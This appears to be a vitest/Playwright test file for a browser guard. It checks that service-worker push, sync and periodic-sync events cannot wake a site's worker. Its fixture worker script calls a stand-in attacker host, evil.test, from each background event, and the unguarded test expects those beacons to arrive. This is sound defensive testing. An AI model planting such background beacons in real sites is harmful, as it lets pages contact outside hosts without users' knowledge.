import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type OpenedSession, openSession } from "../src/index.ts";
import { chromiumProgram } from "../test/chromium-program.ts";
import { Controls } from "../test/controls.ts";
import { failure } from "../test/failure.ts";
import { keyOf, plainWhenNeeded } from "./plain.ts";
import { authority, openWorld, type World } from "./world.ts";

/** Bounds for a busy machine. */
const WAIT_MS = 60_000;
const TEST_MS = 120_000;
/** What may wake a site's worker when its page is long gone. */
const WAKING = ["push", "sync", "periodicsync"] as const;
const WORKER = WAKING.map(
  (kind) =>
    `addEventListener("${kind}", (event) => event.waitUntil(fetch("https://evil.test/${kind}", { mode: "no-cors" }).catch(() => {})));`,
).join("\n");
/** It says what it got. */
const PAGE = `<!doctype html><link rel="icon" href="data:,"><p>words that stay</p><output></output><script type="module">
  const outcome = (promise) => Promise.race([promise.then(() => "given", (error) => error.name), new Promise((r) => setTimeout(r, 1500, "waits"))]);
  const worker = await navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready, () => null);
  const told = worker === null ? ["no worker"] : [
    "worker",
    "push " + await outcome(worker.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: "BEl62iUYgUivxIkv69yViEuiBIa-Ib9-SkvMeAtA3LFgDzkrxZJjSgSnfckjBJuBkr3qBUYIHBQFLXYp5Nksh8U" })),
    "sync " + await outcome(worker.sync.register("s")),
    "periodicsync " + await outcome(worker.periodicSync.register("p", { minInterval: 1 })),
  ];
  document.querySelector("output").textContent = "told: " + told.join(", ");
</script>`;

let directory: string;
let worlds: { readonly guarded: World; readonly plain: World };
let session: OpenedSession;
const controls = new Controls("background");
const plain = plainWhenNeeded(() => ({ hostMap: worlds.plain.hostMap, trustedKey: keyOf(authority.cert) }));

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), "arena-"));
  const ca = join(directory, "authority.pem");
  await writeFile(ca, authority.cert + authority.key);
  worlds = { guarded: await openWorld(), plain: await openWorld() };
  for (const world of Object.values(worlds))
    world.serve({
      "shop.test/background": { body: PAGE },
      "shop.test/worker.js": { headers: { "content-type": "text/javascript" }, body: WORKER },
    });
  session = await openSession({
    allow: ["shop.test"],
    hostMap: worlds.guarded.hostMap,
    browser: { path: chromiumProgram(), ca },
  });
});
afterAll(async () => {
  controls.close();
  await Promise.all([session.close(), plain.close()]);
  await Promise.all(Object.values(worlds).map((world) => world.close()));
  await rm(directory, { recursive: true, force: true });
});

/**
 * Opens the page and wakes every worker there is as the browser's own services would: no server of a vendor is there to
 * push, no site is used for days. Resolves with what the page was told.
 */
async function wake(page: Page): Promise<string> {
  const devtools = await page.context().newCDPSession(page);
  const registrations = new Set<string>();
  devtools.on("ServiceWorker.workerRegistrationUpdated", ({ registrations: all }) => {
    for (const { registrationId } of all) registrations.add(registrationId);
  });
  await devtools.send("ServiceWorker.enable");
  await page.goto("https://shop.test/background");
  const output = page.locator("output");
  await expect.poll(() => output.textContent(), { timeout: WAIT_MS }).toContain("told: ");
  for (const registrationId of registrations) {
    const to = { origin: "https://shop.test", registrationId };
    await devtools.send("ServiceWorker.deliverPushMessage", { ...to, data: "x" });
    await devtools.send("ServiceWorker.dispatchSyncEvent", { ...to, tag: "s", lastChance: false });
    await devtools.send("ServiceWorker.dispatchPeriodicSyncEvent", { ...to, tag: "p" });
  }
  return (await output.textContent()) ?? "";
}

test("A-104: push, sync and periodic sync find no worker to wake", { timeout: TEST_MS }, async () => {
  expect(await wake(await session.page())).toBe("told: no worker");
  await session.call("navigate", { url: "https://shop.test/" });
  expect(worlds.guarded.own.requests).toContain("GET shop.test/");
  expect(worlds.guarded.evil).toMatchObject({ requests: [], connections: 0 });
});

// A page cannot bring Chromium without a window to push or to sync by itself, so the events are made as its developer
// tools make them.
test("A-104: without the guard each of them wakes a worker that sends", { timeout: TEST_MS }, async ({ task }) => {
  const { told, woken } = await controls.outcome("A-104 waking", { page: PAGE, worker: WORKER }, async () => {
    const words = await wake(await (await plain.context()).newPage());
    const arrived = (): readonly string[] => [...new Set(worlds.plain.evil.requests)].toSorted();
    await expect.poll(() => arrived().length, { timeout: WAIT_MS }).toBe(WAKING.length);
    return { told: words.replace("told: ", ""), woken: arrived() };
  });
  console.log(`not counted: A-104 push, sync and periodic sync that no developer tool starts: a page gets ${told}`);
  expect(
    woken,
    failure(task, { scenario: "A-104", expected: "each wakes a worker that sends to evil.test", received: woken }),
  ).toEqual(WAKING.map((kind) => `GET evil.test/${kind}`).toSorted());
});
